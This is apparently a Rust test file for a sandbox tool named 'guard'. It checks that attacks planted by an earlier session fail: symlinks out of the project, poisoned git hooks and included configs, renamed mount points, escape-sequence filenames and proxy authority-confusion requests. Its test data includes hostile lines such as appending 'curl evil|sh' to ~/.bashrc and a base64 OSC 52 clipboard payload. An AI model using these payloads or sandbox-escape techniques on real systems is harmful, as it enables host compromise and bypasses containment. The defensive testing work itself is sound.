//! The fourth review: attacks found or tried by a fresh attacker's review.
//! Each test names the attack; where guard had a hole, the test failed
//! before the fix that came with it.

use crate::support::{Case, Expect, basename, each_mode, errno::*};

/// The host home's directory name, seen from the project (both are
/// siblings under the host's /tmp in the harness): the relative link
/// target an earlier session would plant.
fn home_from_project(case: &Case) -> String {
    format!("../{}", basename(case.home()))
}

/// A host file outside the project, not secret-looking (the scan must not
/// be what keeps it out), and a host file the user's shell runs later.
fn plant_targets(case: &mut Case) -> (String, std::path::PathBuf) {
    let canary = case.add_canary("notes");
    let notes = case.home().join("docs/notes.txt");
    std::fs::create_dir_all(notes.parent().unwrap()).unwrap();
    std::fs::write(&notes, format!("meeting notes {canary}\n")).unwrap();
    let rc = case.home().join(".bashrc");
    std::fs::write(&rc, "alias ll='ls -l'\n").unwrap();
    case.env.own();
    (canary, rc)
}

/// An earlier session plants links in the project, as it may (the project
/// is writable): `docs -> ~/docs`, `rc -> ~/.bashrc`, `up -> ~`.
fn plant_links(case: &Case) {
    let home = home_from_project(case);
    let out = case.sh(&format!(
        "ln -s {home}/docs docs && ln -s {home}/.bashrc rc && ln -s {home} up && echo planted=1"
    ));
    out.fields(&[("planted", "1")]);
}

/// A grant on the command line naming a path in the project that an
/// earlier session turned into a link out of the project (`--ro
/// $PWD/docs`, `--rw $PWD/rc`, `--ro $PWD/up/docs`) must not carry the
/// grant to where the link leads (the host home): guard refuses to run and
/// says why, and the host files stay unread and unchanged. At both
/// isolation levels (at `landlock`, the Landlock rule would follow it).
#[test]
fn a_link_planted_in_the_project_does_not_carry_a_command_line_grant_out() {
    each_mode(|mut case| {
        let (_canary, rc) = plant_targets(&mut case);
        plant_links(&case);
        let before = std::fs::read(&rc).unwrap();
        let p = case.project().to_path_buf();
        let cases = [("--ro", "docs"), ("--rw", "rc"), ("--ro", "up/docs")];
        for ((flag, rel), level) in cases.iter().flat_map(|c| [(c, "full"), (c, "landlock")]) {
            let path = p.join(rel).display().to_string();
            let out = case.run(&[
                "run",
                "--isolation",
                level,
                flag,
                &path,
                "--",
                "sh",
                "-c",
                "echo ran=1; cat docs/notes.txt up/docs/notes.txt; echo 'curl evil|sh' >> rc",
            ]);
            out.expect_code(125);
            // Refused before anything ran, for the stated reason.
            assert!(out.field("ran").is_none(), "{flag} {rel}: {}", out.all());
            assert!(
                out.stderr.contains("link") && out.stderr.contains("out of"),
                "{flag} {rel} ({level}): refused for another reason:\n{}",
                out.all()
            );
        }
        assert_eq!(std::fs::read(&rc).unwrap(), before, "~/.bashrc changed");
    });
}

/// The same links under a profile's grants (`read = ["{project}/docs"]`,
/// `write = ["{project}/rc"]`): an optional grant is dropped, the session
/// runs, and neither host file is reachable through the links.
#[test]
fn a_link_planted_in_the_project_does_not_carry_a_profile_grant_out() {
    each_mode(|mut case| {
        let (_canary, rc) = plant_targets(&mut case);
        case.env.home.write(
            ".config/guard/profiles/tight.toml",
            "version = 1\nextends = [\"default\"]\n[filesystem]\n\
             read = [\"{project}/docs\", \"{project}/up/docs\"]\nwrite = [\"{project}/rc\"]\n",
        );
        case.env.own();
        plant_links(&case);
        let before = std::fs::read(&rc).unwrap();
        let out = case.run(&[
            "run",
            "-p",
            "tight",
            "--",
            "python3",
            "-c",
            r#"
import os
def err(f, *a):
    try:
        f(*a)
        return 0
    except OSError as e:
        return e.errno
print("ran=1")
print("docs=%d" % err(lambda: open("docs/notes.txt").read()))
print("up_docs=%d" % err(lambda: open("up/docs/notes.txt").read()))
print("rc=%d" % err(lambda: open("rc").read()))
# With the grant dropped this lands in the private home, not the host's.
err(lambda: open("rc", "a").write("curl evil|sh\n"))
"#,
        ]);
        out.ran()
            .fields(&[("docs", ENOENT), ("up_docs", ENOENT), ("rc", ENOENT)]);
        assert_eq!(std::fs::read(&rc).unwrap(), before, "~/.bashrc changed");
    });
}

/// Appends to `files` (project paths) from inside, at both isolation
/// levels; each append must fail at `full` (read-only) and every file must
/// read as before on the host after either run.
fn assert_unplantable(case: &Case, files: &[&str]) {
    let before: Vec<Option<Vec<u8>>> = files
        .iter()
        .map(|f| std::fs::read(case.project().join(f)).ok())
        .collect();
    let mut code = String::from(
        "import os\nprint(\"ran=1\")\ndef err(f):\n    try:\n        f()\n        return 0\n    except OSError as e:\n        return e.errno\n",
    );
    for (i, f) in files.iter().enumerate() {
        code.push_str(&format!(
            "print(\"f{i}=%d\" % err(lambda: open({f:?}, \"a\").write(\"\\ntouch /tmp/pwned\\n\")))\n"
        ));
    }
    for level in ["full", "landlock"] {
        let out = case.run(&[
            "run",
            "--isolation",
            level,
            "--",
            "/usr/bin/python3",
            "-c",
            &code,
        ]);
        out.ran();
        if level == "full" {
            for i in 0..files.len() {
                out.fields(&[(&format!("f{i}"), EROFS)]);
            }
        }
        for (f, b) in files.iter().zip(&before) {
            assert_eq!(
                &std::fs::read(case.project().join(f)).ok(),
                b,
                "{f} changed on the host ({level}):\n{}",
                out.all()
            );
        }
    }
}

/// Hook managers: the hook `pre-commit install` writes into `.git/hooks`
/// runs whatever `.pre-commit-config.yaml` in the worktree names (a `local`
/// hook with `entry: sh -c ...`), and husky's `core.hooksPath = .husky/_`
/// hooks run the scripts in `.husky/`. Those files are as much code that
/// runs on the host at the next commit as the hooks themselves.
#[test]
fn hook_managers_worktree_files_cannot_be_planted() {
    each_mode(|case| {
        crate::common::host_git(case.project(), &["init", "-q"]);
        case.write(
            ".git/hooks/pre-commit",
            "#!/usr/bin/env bash\n# File generated by pre-commit: https://pre-commit.com\nexec pre-commit hook-impl --config=.pre-commit-config.yaml\n",
        );
        case.write(".pre-commit-config.yaml", "repos: []\n");
        assert_unplantable(&case, &[".pre-commit-config.yaml"]);
    });
    each_mode(|case| {
        crate::common::host_git(case.project(), &["init", "-q"]);
        crate::common::host_git(case.project(), &["config", "core.hooksPath", ".husky/_"]);
        case.write(
            ".husky/_/pre-commit",
            "#!/usr/bin/env sh\n. \"$(dirname \"$0\")/h\"\n",
        );
        case.write(
            ".husky/_/h",
            "#!/usr/bin/env sh\nsh -e \".husky/$(basename \"$0\")\"\n",
        );
        case.write(".husky/pre-commit", "npm test\n");
        assert_unplantable(&case, &[".husky/pre-commit", ".husky/_/h"]);
    });
}

/// A repository whose config keeps its hooks in the worktree (`git config
/// core.hooksPath .githooks`, as many teams and husky do): those hooks run
/// on the host at the next `git commit` just as `.git/hooks` would, so the
/// sandbox may not edit, replace or add one. Full level: read-only and
/// pinned; `landlock` level: put back after the run.
#[test]
fn hooks_in_the_directory_core_hooks_path_names_cannot_be_planted() {
    each_mode(|case| {
        crate::common::host_git(case.project(), &["init", "-q"]);
        crate::common::host_git(case.project(), &["config", "core.hooksPath", ".githooks"]);
        let hook = case.write(".githooks/pre-commit", "#!/bin/sh\necho lint ok\n");
        let attack = r#"
print("ran=1")
def err(f):
    try:
        f()
        return 0
    except OSError as e:
        return e.errno
print("append=%d" % err(lambda: open(".githooks/pre-commit", "a").write("touch /tmp/pwned\n")))
print("add=%d" % err(lambda: open(".githooks/post-checkout", "w").write("touch /tmp/pwned\n")))
print("rename=%d" % err(lambda: os.rename(".githooks", ".githooks.old")))
"#;
        let code = format!("import os\n{attack}");
        let full = case.run(&["run", "--", "/usr/bin/python3", "-c", &code]);
        full.ran()
            .fields(&[("append", EROFS), ("add", EROFS), ("rename", EBUSY)]);
        let ll = case.run(&[
            "run",
            "--isolation",
            "landlock",
            "--",
            "/usr/bin/python3",
            "-c",
            &code,
        ]);
        ll.ran();
        for level in [&full, &ll] {
            assert_eq!(
                std::fs::read_to_string(&hook).unwrap(),
                "#!/bin/sh\necho lint ok\n",
                "the hook changed on the host:\n{}",
                level.all()
            );
            assert!(
                !case.project().join(".githooks/post-checkout").exists(),
                "a new hook was left on the host:\n{}",
                level.all()
            );
        }
    });
}

/// A path hidden by name (`--hide`, a profile's `hide`) whose content no
/// rule recognizes: an earlier session renames a directory above it
/// (`mv config config.old`) and puts a decoy where it was, so the next
/// session would hide the decoy and read the real file at its new path.
/// The directories between the writable tree's root and a hidden path are
/// mount points: the rename fails (EBUSY), and the next session finds
/// nothing to read.
#[test]
fn a_hidden_file_cannot_be_carried_away_by_renaming_its_directory() {
    each_mode(|mut case| {
        let canary = case.add_canary("hidden");
        case.write(
            "config/deep/notes.txt",
            &format!("meeting notes {canary}\n"),
        );
        let hide = case.project().join("config/deep/notes.txt");
        let hide = hide.display().to_string();
        let first = case.run(&[
            "run",
            "--hide",
            &hide,
            "--",
            "/usr/bin/python3",
            "-c",
            r#"
import os
print("ran=1")
def err(f, *a):
    try:
        f(*a)
        return 0
    except OSError as e:
        return e.errno
print("inner=%d" % err(os.rename, "config/deep", "config/deep.old"))
print("outer=%d" % err(os.rename, "config", "config.old"))
if not os.path.exists("config"):
    os.makedirs("config/deep")
    open("config/deep/notes.txt", "w").write("decoy\n")
"#,
        ]);
        first.ran();
        // Whatever the first session managed, the second reads every file
        // in the project: the content must not be among them (the canary
        // check of every run). Then: why nothing leaked.
        let second = case.run(&[
            "run",
            "--hide",
            &hide,
            "--",
            "sh",
            "-c",
            "echo ran=1; find . -type f -exec cat {} + 2>/dev/null; true",
        ]);
        second.ran();
        first.fields(&[("outer", EBUSY), ("inner", EBUSY)]);
        assert!(case.project().join("config/deep/notes.txt").is_file());
    });
}

/// Git history: a loose object holding a secret is shown as a sanitized
/// copy mounted over it. An earlier session renames the object's directory
/// (`mv .git/objects/ab .git/objects/ab.old`, or all of `.git/objects`):
/// the next session's history scan would not look there, and the raw
/// object (zlib of the secret) would be read with the mount gone. Those
/// directories are mount points, so the renames fail.
#[test]
fn sanitized_git_objects_cannot_be_carried_away_between_sessions() {
    each_mode(|mut case| {
        let token = crate::secrets_layer::gh_token(&mut case, "hist");
        let p = case.project().to_path_buf();
        let git = |args: &[&str]| crate::common::host_git(&p, args);
        std::fs::write(p.join("cfg.txt"), format!("token = {token}\n")).unwrap();
        git(&["init", "-q"]);
        git(&["add", "cfg.txt"]);
        git(&["commit", "-qm", "add"]);
        std::fs::write(p.join("cfg.txt"), "token = from-env\n").unwrap();
        git(&["commit", "-qam", "fix"]);
        case.env.own();
        let first = case.run(&[
            "run",
            "--",
            "/usr/bin/python3",
            "-c",
            r#"
import os, glob
print("ran=1")
def err(f, *a):
    try:
        f(*a)
        return 0
    except OSError as e:
        return e.errno
moved = [err(os.rename, d, d + ".old") for d in glob.glob(".git/objects/[0-9a-f][0-9a-f]")]
print("any_busy=%d" % (16 in moved))
print("objects=%d" % err(os.rename, ".git/objects", ".git/objects.old"))
"#,
        ]);
        first.ran();
        let second = case.run(&[
            "run",
            "--",
            "/usr/bin/python3",
            "-c",
            r#"
import os, zlib
print("ran=1")
found = 0
for root, dirs, files in os.walk(".git"):
    for f in files:
        try:
            data = open(os.path.join(root, f), "rb").read()
        except OSError:
            continue
        try:
            data = zlib.decompress(data)
        except Exception:
            pass
        if b"gh" b"p_" in data:
            found += 1
print("found=%d" % found)
"#,
        ]);
        second.ran().fields(&[("found", "0")]);
        first.fields(&[("any_busy", "1"), ("objects", EBUSY)]);
    });
}

/// An earlier session names files so that the next session's summary,
/// `guard scan` and `guard explain` would write escape sequences to the
/// user's terminal: OSC 52 sets the clipboard (the next paste runs the
/// sandbox's command), CSI sequences rewrite what the user reads. Names
/// are shown with control characters escaped.
#[test]
fn file_names_a_sandbox_chose_reach_the_terminal_escaped() {
    each_mode(|mut case| {
        let key = case.add_canary("oddname");
        let plant = case.sh(&format!(
            r#"printf 'x=1\n' > "$(printf '.env.\033]52;c;Y3VybCBldmlsfHNo\007')"
printf '{key}\n' > "$(printf 'id_rsa\033[2J\233')"
echo planted=1"#
        ));
        plant.fields(&[("planted", "1")]);
        // A name that is not UTF-8 (\233) is hidden like any other (it once
        // made guard wait forever for its own plan).
        let read = case.run(&["run", "--", "sh", "-c", "echo ran=1; cat id_rsa*"]);
        read.ran().expect_code(0);
        // JSON escapes control characters itself; a name that is not
        // UTF-8 must not make it panic.
        for args in [
            &["scan", "--json"][..],
            &["explain", "--json", "--", "true"][..],
        ] {
            let out = case.run(args);
            out.expect_code(0);
            assert!(
                serde_json::from_str::<serde_json::Value>(&out.stdout).is_ok(),
                "guard {args:?}: not JSON:\n{}",
                out.all()
            );
        }
        for args in [
            &["run", "--", "true"][..],
            &["scan"][..],
            &["explain", "--", "true"][..],
        ] {
            let out = case.run(args);
            out.expect_code(0);
            let all = out.all();
            assert!(
                !all.contains(['\x1b', '\x07', '\u{9b}']),
                "guard {args:?} wrote control characters:\n{}",
                all.escape_debug()
            );
            assert!(
                all.contains(r".env.\x1b]52;c;Y3VybCBldmlsfHNo\x07"),
                "guard {args:?} did not list the file:\n{all}"
            );
        }
    });
}

/// Config the repository's config includes: `git config include.path
/// ../.gitconfig` (a common way to share settings through the worktree),
/// or an `includeIf` file next to `.git/config`. A `core.fsmonitor` or
/// `core.hooksPath` set there runs on the host at the next git command, so
/// those files are protected like `.git/config`; so is a hooks path set in
/// one.
#[test]
fn config_a_repository_includes_cannot_be_planted() {
    each_mode(|case| {
        crate::common::host_git(case.project(), &["init", "-q"]);
        crate::common::host_git(case.project(), &["config", "include.path", "../.gitconfig"]);
        crate::common::host_git(
            case.project(),
            &["config", "includeIf.onbranch:main.path", "config.team"],
        );
        case.write(".gitconfig", "[core]\n\thooksPath = tools/hooks\n");
        case.write(".git/config.team", "[user]\n\tname = team\n");
        case.write("tools/hooks/pre-commit", "#!/bin/sh\nexit 0\n");
        // The included file is the repository's content: its own includes
        // may name anything guard must not read forever.
        let mut team = std::fs::OpenOptions::new()
            .append(true)
            .open(case.project().join(".git/config.team"))
            .unwrap();
        std::io::Write::write_all(&mut team, b"[include]\n\tpath = /dev/zero\n").unwrap();
        assert_unplantable(
            &case,
            &[".gitconfig", ".git/config.team", "tools/hooks/pre-commit"],
        );
    });
}

/// Authority confusion at the HTTP proxy: forms where two parsers could
/// disagree on the destination (userinfo in an absolute URI or a CONNECT
/// target, a fragment or backslash before `@`, percent-encoding, a second
/// port, an IPv4-mapped IPv6 literal), each naming an allowed host and a
/// second host server that is not allowed. Each is refused and the second
/// server sees no connection; the allowed name in capitals with a trailing
/// dot still works (it is the same name), so the refusals are not the
/// proxy failing everything.
#[test]
fn authority_confusion_at_the_proxy_reaches_only_the_allowed_host() {
    use crate::egress_layer::{Loopback, PROXY, profile, run_logged};
    each_mode(|mut case| {
        let ok = Loopback::start(&mut case);
        let evil = Loopback::start(&mut case);
        let (p, e) = (ok.port, evil.port);
        let prof = profile(&case, p);
        case.write_python(&format!(
            r#"{PROXY}
out("control", proxy(b"CONNECT WEB.GUARD.TEST.:{p} HTTP/1.1\r\nHost: WEB.GUARD.TEST.:{p}\r\n\r\n"))
out("get_userinfo", proxy(b"GET http://web.guard.test:{p}@127.0.0.1:{e}/ HTTP/1.1\r\nHost: 127.0.0.1:{e}\r\n\r\n"))
out("connect_userinfo", proxy(b"CONNECT web.guard.test:{p}@127.0.0.1:{e} HTTP/1.1\r\nHost: web.guard.test:{p}@127.0.0.1:{e}\r\n\r\n"))
out("get_fragment", proxy(b"GET http://127.0.0.1:{e}#@web.guard.test:{p}/ HTTP/1.1\r\nHost: web.guard.test:{p}\r\n\r\n"))
out("get_backslash", proxy(b"GET http://127.0.0.1:{e}\\@web.guard.test:{p}/ HTTP/1.1\r\nHost: web.guard.test:{p}\r\n\r\n"))
out("get_percent", proxy(b"GET http://web.guard.test%2F@127.0.0.1:{e}/ HTTP/1.1\r\nHost: web.guard.test\r\n\r\n"))
out("connect_two_ports", proxy(b"CONNECT web.guard.test:{p}:{e} HTTP/1.1\r\nHost: web.guard.test:{p}:{e}\r\n\r\n"))
out("connect_other_port", proxy(b"CONNECT web.guard.test:{e} HTTP/1.1\r\nHost: web.guard.test:{e}\r\n\r\n"))
out("connect_mapped", proxy(b"CONNECT [::ffff:7f00:1]:{e} HTTP/1.1\r\nHost: [::ffff:7f00:1]:{e}\r\n\r\n"))
"#
        ));
        let (out, _log) = run_logged(&case, &["-p", prof.to_str().unwrap()]);
        out.fields(&[("control", "200")]);
        for k in [
            "get_userinfo",
            "connect_userinfo",
            "get_fragment",
            "get_backslash",
            "get_percent",
            "connect_two_ports",
            "connect_other_port",
            "connect_mapped",
        ] {
            let v = out.get(k);
            assert!(
                v == "400" || v == "403",
                "{k}: {v} (not refused)\n{}",
                out.all()
            );
        }
        assert_eq!(
            evil.finish(),
            0,
            "the server that is not allowed was reached"
        );
        assert!(ok.finish() >= 1, "the allowed server was never reached");
    });
}

/// A cloned repository is attacker-controlled content: it ships links
/// (git stores them) and a `.guard.toml` whose grants all name paths in
/// the project (`read = ["{project}/docs"]`), which applies without `guard
/// trust` since a grant inside the project widens nothing. With `docs ->
/// ../<home>/docs`, the grant would follow the link to the host home.
#[test]
fn an_untrusted_project_profile_cannot_grant_through_a_link_it_ships() {
    each_mode(|mut case| {
        let (_canary, rc) = plant_targets(&mut case);
        let home = home_from_project(&case);
        case.write(
            ".guard.toml",
            "version = 1\n[filesystem]\nread = [\"{project}/docs\"]\nwrite = [\"{project}/rc\"]\n",
        );
        std::os::unix::fs::symlink(format!("{home}/docs"), case.project().join("docs")).unwrap();
        std::os::unix::fs::symlink(format!("{home}/.bashrc"), case.project().join("rc")).unwrap();
        case.env.own();
        let before = std::fs::read(&rc).unwrap();
        let out = case.run(&[
            "run",
            "--",
            "/usr/bin/python3",
            "-c",
            r#"
def err(f):
    try:
        f()
        return 0
    except OSError as e:
        return e.errno
print("ran=1")
print("docs=%d" % err(lambda: print(open("docs/notes.txt").read())))
print("rc=%d" % err(lambda: print(open("rc").read())))
err(lambda: open("rc", "a").write("curl evil|sh\n"))
"#,
        ]);
        out.ran().fields(&[("docs", ENOENT), ("rc", ENOENT)]);
        assert_eq!(std::fs::read(&rc).unwrap(), before, "~/.bashrc changed");
    });
}
